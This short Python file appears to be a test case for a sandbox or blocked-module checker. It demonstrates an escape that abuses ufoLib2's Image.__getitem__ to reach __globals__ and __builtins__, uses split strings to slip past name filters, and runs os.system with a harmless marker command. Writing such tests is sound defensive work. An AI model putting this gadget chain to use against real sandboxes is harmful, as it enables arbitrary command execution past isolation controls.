# rule: blocked_module
# marker: pwned_f1_ufolib2_image_getitem
# Family 1: ufoLib2's Image.__getitem__ returns getattr(self, key) for any
# key outside its transformation keys; called through the class, `self` is
# any object that carries a `_transformation_keys_` attribute.
from ufoLib2.objects import Image


def f():
    pass


f._transformation_keys_ = ()
g = Image.__getitem__(f, "__glob" + "als__")
b = g["__built" + "ins__"]
b._transformation_keys_ = ()
imp = Image.__getitem__(b, "__imp" + "ort__")
imp("o" + "s").system("echo ran > pwned_f1_ufolib2_image_getitem")
